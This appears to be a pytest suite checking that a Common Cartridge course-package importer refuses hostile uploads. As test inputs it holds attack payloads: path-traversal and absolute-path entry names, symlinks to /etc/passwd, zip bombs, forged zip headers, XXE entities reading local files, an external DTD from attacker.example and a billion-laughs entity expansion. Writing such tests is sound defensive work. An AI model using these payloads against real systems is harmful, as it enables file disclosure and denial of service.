"""Untrusted uploads: each attack gets a clear CartridgeError and nothing outside the upload is touched."""
from __future__ import annotations

import io
import os
import stat
import zipfile

import pytest

from exporters.common_cartridge import Limits, check_cartridge, read_cartridge, write_cartridge
from exporters.common_cartridge.errors import (
    CartridgeError, DuplicateEntryError, DuplicateManifestError, EncryptedEntryError, MalformedXmlError,
    MissingManifestError, NonUtf8NameError, NotAZipError, SymlinkError, UnsafePathError, UnsafeXmlError,
    UnsupportedCartridgeError, XmlTooLargeError, ZipBombError,
)

from .courses import NOW, sample_course

MANIFEST = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<manifest identifier="M" xmlns="http://www.imsglobal.org/xsd/imsccv1p3/imscp_v1p1">'
            b'<metadata><schema>IMS Common Cartridge</schema><schemaversion>1.3.0</schemaversion></metadata>'
            b'<organizations/><resources/></manifest>')


def make_zip(*entries: tuple[str | zipfile.ZipInfo, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buffer.getvalue()


def with_manifest(*entries) -> bytes:
    return make_zip(("imsmanifest.xml", MANIFEST), *entries)


def test_a_minimal_cartridge_is_accepted():
    assert read_cartridge(with_manifest()).course.title == "Untitled course"


@pytest.mark.parametrize("name, message", [
    ("../../evil.sh", "outside the cartridge"),
    ("web_resources/../../evil.sh", "outside the cartridge"),
    ("/etc/passwd", "absolute path"),
    ("C:/Windows/evil.dll", "absolute path"),
    ("web_resources\\..\\..\\evil.sh", "backslash"),
])
def test_paths_that_escape_are_refused(name, message):
    with pytest.raises(UnsafePathError, match=message):
        read_cartridge(with_manifest((name, b"x")))


def test_symlink_entries_are_refused():
    link = zipfile.ZipInfo("web_resources/passwd")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with pytest.raises(SymlinkError, match="symbolic link"):
        read_cartridge(with_manifest((link, b"/etc/passwd")))


def test_symlinks_in_a_directory_are_refused(tmp_path):
    (tmp_path / "imsmanifest.xml").write_bytes(MANIFEST)
    os.symlink("/etc/passwd", tmp_path / "passwd")
    with pytest.raises(SymlinkError):
        read_cartridge(tmp_path)


def test_zip_bomb_by_ratio():
    with pytest.raises(ZipBombError, match="zip bomb"):
        read_cartridge(with_manifest(("web_resources/zeros.bin", bytes(20 * 1024 * 1024))))


def test_zip_bomb_limits_are_configurable():
    data = with_manifest(("a.txt", b"a" * 5000), ("b.txt", b"b" * 5000))
    with pytest.raises(ZipBombError, match="at most 2 are accepted"):
        read_cartridge(data, limits=Limits(max_entries=2))
    with pytest.raises(ZipBombError, match="per file"):
        read_cartridge(data, limits=Limits(max_file_size=4000))
    with pytest.raises(ZipBombError, match="once unpacked"):
        read_cartridge(data, limits=Limits(max_total_size=8000))
    with pytest.raises(ZipBombError, match="zip bomb"):
        read_cartridge(data, limits=Limits(max_ratio=2, ratio_floor=1000))
    assert read_cartridge(data).course  # the defaults accept it


def test_lying_size_headers_cannot_inflate_reads():
    data = bytearray(make_zip(("imsmanifest.xml", MANIFEST), compression=zipfile.ZIP_STORED))
    # Shrink the declared size in the central directory: the stored data is longer than the header says.
    cd = data.rindex(b"PK\x01\x02")
    data[cd + 24:cd + 28] = (10).to_bytes(4, "little")
    with pytest.raises(CartridgeError):
        read_cartridge(bytes(data))


@pytest.mark.parametrize("doctype", [
    b'<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">',
    b'<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
])
def test_doctypes_entities_and_external_references_are_refused(doctype):
    manifest = MANIFEST.replace(b"\n<manifest", b"\n" + doctype + b"\n<manifest").replace(b"<schema>", b"<schema>&xxe;")
    with pytest.raises(UnsafeXmlError, match="DOCTYPE"):
        read_cartridge(make_zip(("imsmanifest.xml", manifest)))


def test_doctype_in_utf16_is_refused_too():
    text = MANIFEST.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').replace(
        "\n<manifest", '\n<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<manifest')
    with pytest.raises(UnsafeXmlError):
        read_cartridge(make_zip(("imsmanifest.xml", text.encode("utf-16"))))


def test_doctype_in_a_resource_file_is_refused():
    course = write_cartridge(sample_course(), now=NOW)
    with zipfile.ZipFile(io.BytesIO(course)) as zf:
        files = {n: zf.read(n) for n in zf.namelist()}
    qti = next(n for n in files if n.startswith("assessments/"))
    files[qti] = files[qti].replace(b"?>\n", b'?>\n<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', 1)
    with pytest.raises(UnsafeXmlError, match="assessments/"):
        read_cartridge(make_zip(*files.items()))


def test_oversized_and_deep_xml():
    with pytest.raises(XmlTooLargeError, match="larger than"):
        read_cartridge(with_manifest(), limits=Limits(max_xml_size=100))
    deep = MANIFEST.replace(b"<organizations/>", b"<x>" * 5000 + b"</x>" * 5000 + b"<organizations/>")
    with pytest.raises(XmlTooLargeError, match="nested too deeply"):
        read_cartridge(make_zip(("imsmanifest.xml", deep)))
    with pytest.raises(MalformedXmlError, match="not well-formed"):
        read_cartridge(make_zip(("imsmanifest.xml", b"<manifest><unclosed></manifest>")))


def test_non_utf8_names_are_refused():
    placeholder = "web_resources/caf?.png"
    data = bytearray(with_manifest((placeholder, b"x")))
    data = data.replace(placeholder.encode(), b"web_resources/caf\xe9.png")  # Latin-1, no UTF-8 flag
    with pytest.raises(NonUtf8NameError, match="not UTF-8"):
        read_cartridge(bytes(data))


def test_utf8_names_without_the_flag_are_accepted():
    placeholder = "web_resources/caf??.png"  # as many bytes as UTF-8 "café"
    data = bytearray(with_manifest((placeholder, b"x")))
    data = data.replace(placeholder.encode(), "web_resources/café.png".encode())  # UTF-8 bytes, flag unset
    assert read_cartridge(bytes(data)).course


def test_manifest_missing_nested_or_duplicated():
    with pytest.raises(MissingManifestError, match="no imsmanifest.xml"):
        read_cartridge(make_zip(("page.html", b"<p>hi</p>")))
    with pytest.raises(MissingManifestError, match="'course/imsmanifest.xml': zip the contents"):
        read_cartridge(make_zip(("course/imsmanifest.xml", MANIFEST)))
    with pytest.warns(UserWarning, match="Duplicate name"):  # zipfile itself warns when writing it
        duplicated = make_zip(("imsmanifest.xml", MANIFEST), ("imsmanifest.xml", MANIFEST))
    with pytest.raises(DuplicateManifestError, match="twice"):
        read_cartridge(duplicated)
    with pytest.warns(UserWarning):
        twice = with_manifest(("a.html", b"1"), ("a.html", b"2"))
    with pytest.raises(DuplicateEntryError, match="'a.html' twice"):
        read_cartridge(twice)


def test_not_a_zip_and_encrypted_entries():
    with pytest.raises(NotAZipError, match="not a zip archive"):
        read_cartridge(b"%PDF-1.4 this is a PDF")
    data = bytearray(with_manifest(("web_resources/secret.txt", b"x")))
    entry = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1)  # the second central directory entry
    data[entry + 8] |= 0x1  # zipfile cannot write encrypted entries; set the "encrypted" flag by hand
    with pytest.raises(EncryptedEntryError, match="encrypted"):
        read_cartridge(bytes(data))


def test_packages_that_are_not_cartridges():
    scorm = b'<manifest identifier="M" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><organizations/></manifest>'
    with pytest.raises(UnsupportedCartridgeError, match="SCORM"):
        read_cartridge(make_zip(("imsmanifest.xml", scorm)))
    with pytest.raises(UnsupportedCartridgeError, match="<manifest>"):
        read_cartridge(make_zip(("imsmanifest.xml", b"<html/>")))


def test_hrefs_pointing_outside_are_ignored_not_followed():
    manifest = MANIFEST.replace(b"<resources/>", b'<resources><resource identifier="R" type="webcontent" '
                                b'href="../../etc/passwd"><file href="../../etc/passwd"/></resource></resources>')
    result = read_cartridge(make_zip(("imsmanifest.xml", manifest)))
    assert result.course.units == ()
    assert [f.code for f in check_cartridge(make_zip(("imsmanifest.xml", manifest)))].count("file-unsafe") == 2


def test_every_error_is_a_cartridge_error_with_a_readable_message():
    for data in (b"junk", make_zip(("x", b"")), make_zip(("../x", b""))):
        with pytest.raises(CartridgeError) as info:
            read_cartridge(data)
        assert str(info.value)[0].isupper() and str(info.value).endswith(".")
